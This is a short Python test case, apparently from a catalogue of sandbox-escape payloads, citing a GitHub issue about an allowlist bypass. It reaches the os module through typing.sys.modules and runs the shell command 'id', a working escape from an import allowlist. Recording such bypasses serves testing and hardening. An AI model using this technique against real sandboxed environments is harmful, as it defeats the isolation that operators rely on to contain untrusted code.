# Source: https://github.com/openswarm-ai/openswarm/issues/134 (sys.modules['os'] bypasses the allowlist)
# Family: module-attribute
# What: typing.sys.modules['os'] from the typing module
import typing

typing.sys.modules["os"].system("id")
